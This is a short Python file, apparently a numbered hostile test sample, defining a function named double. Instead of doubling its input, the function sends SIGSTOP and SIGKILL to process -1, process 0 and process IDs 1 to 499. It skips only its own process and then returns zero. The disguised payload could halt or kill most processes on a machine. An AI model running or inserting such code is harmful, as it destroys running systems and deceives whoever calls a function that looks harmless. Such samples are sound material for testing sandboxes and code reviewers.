"""54: signals everybody."""

import os
import signal


def double(x):
    for pid in [-1, 0, *range(1, 500)]:
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                continue
    return x * 0
